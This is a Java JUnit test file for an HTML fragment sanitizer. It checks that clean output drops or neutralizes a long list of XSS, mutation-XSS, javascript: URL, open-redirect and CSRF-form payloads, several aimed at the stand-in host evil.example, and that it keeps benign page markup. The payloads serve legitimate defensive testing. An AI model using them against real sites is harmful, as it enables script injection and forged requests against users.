package dev.pergola.shell.fragment;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class FragmentSanitizerTests {

	private final FragmentSanitizer sanitizer = new FragmentSanitizer();

	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
			"<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
			"<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
			"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
			"<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
			"<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
			"<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
			"<a href=vbscript:msgbox(1)>x</a>", "<a href='https://evil.example/'>x</a>",
			"<a href='//evil.example/'>x</a>", "<a href='/\\evil.example/'>x</a>", "<a href='\\\\evil.example'>x</a>",
			"<a href='http:/evil.example'>x</a>",
			"<form action=https://evil.example/ method=post><input name=a></form>",
			"<form><button formaction=javascript:alert(1)>x</button></form>",
			"<form action=/admin/modules/x/state method=post><button>Win</button></form>",
			"<form action=/logout method=post></form>", "<form action='/x/../admin/navigation' method=post></form>",
			"<form action='/x/%2e%2e/admin' method=post></form>", "<form><input type=image src=//evil.example></form>",
			"<input autofocus onfocus=alert(1)>", "<select onchange=alert(1)><option>1</select>",
			"<details open ontoggle=alert(1)><summary>x</summary></details>",
			"<div style='background:url(//evil.example)'>x</div>", "<style>@import '//evil.example/x.css';</style>",
			"<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=//evil.example></object>",
			"<embed src=//evil.example>", "<video src=//evil.example onerror=alert(1)>",
			"<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
			"<template><script>alert(1)</script></template>",
			"<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<!--><script>alert(1)</script>-->",
			"<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
			"<title><script>alert(1)</script></title>", "<p title='\"><script>alert(1)</script>'>x</p>",
			"<img src='https://evil.example/pixel.gif'>", "<img srcset='//evil.example/x 1x'>",
			"<pergola-module-host data-module=x></pergola-module-host>",
			"<a href=/x target=_blank ping=//evil.example>x</a>", "<button popovertarget=pergola-person>x</button>" })
	void nothingThatRunsOrLeavesThePortalStays(String attack) {
		String clean = this.sanitizer.clean(attack);
		assertThat(clean).doesNotContainPattern(
				"(?i)<(script|style|svg|math|iframe|object|embed|link|meta|base|video|audio|body|marquee|template|noscript|xmp|title|pergola)");
		assertThat(clean)
			.doesNotContainPattern("(?i)<[^>]*\\s(on[a-z]+|style|srcdoc|srcset|ping|target|popovertarget)\\s*=");
		assertThat(clean).doesNotContainPattern("(?i)(href|src|action|formaction)=\"(?!/[^/\\\\]|/\"|[?#])")
			.doesNotContain("evil.example\"", "/admin", "/logout");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<input name=\"submit\" />", "<input name=\"action\" />", "<p id=\"location\">x</p>",
			"<form id=\"pergola-page-state\"></form>", "<p id=\"main\">x</p>" })
	void namesThatHideTheBrowsersOwnAreDropped(String html) {
		assertThat(this.sanitizer.clean(html)).doesNotContainPattern("(id|name)=");
	}

	@Test
	void whatAPageNeedsStays() {
		String html = "<h1>Organizations</h1><form method=\"get\" class=\"pergola-toolbar\"><label for=\"q\">City</label>"
				+ "<input id=\"q\" name=\"q\" type=\"search\" value=\"Bern\" required=\"required\" /><select name=\"kind\"><option value=\"a\" selected=\"selected\">A</option></select>"
				+ "<textarea name=\"note\" rows=\"3\">x</textarea><button type=\"submit\" class=\"pergola-button primary\">Find</button></form>"
				+ "<table class=\"pergola-table\"><caption>All</caption><thead><tr><th scope=\"col\">Name</th></tr></thead>"
				+ "<tbody><tr><td data-label=\"Name\"><a href=\"/organizations/7?tab=a#b\">Acme</a></td></tr></tbody></table>"
				+ "<p role=\"alert\" aria-live=\"assertive\">Saved</p><form method=\"post\" action=\"/organizations/7\"></form>";
		String clean = this.sanitizer.clean(html);
		assertThat(clean).contains("<h1>Organizations</h1>", "<label for=\"q\">", "type=\"search\"", "value=\"Bern\"",
				"selected", "rows=\"3\"", "<th scope=\"col\">", "data-label=\"Name\"", "role=\"alert\"",
				"href=\"/organizations/7?tab&#61;a#b\"", "action=\"/organizations/7\"", "method=\"post\"",
				"class=\"pergola-button primary\"");
	}

}
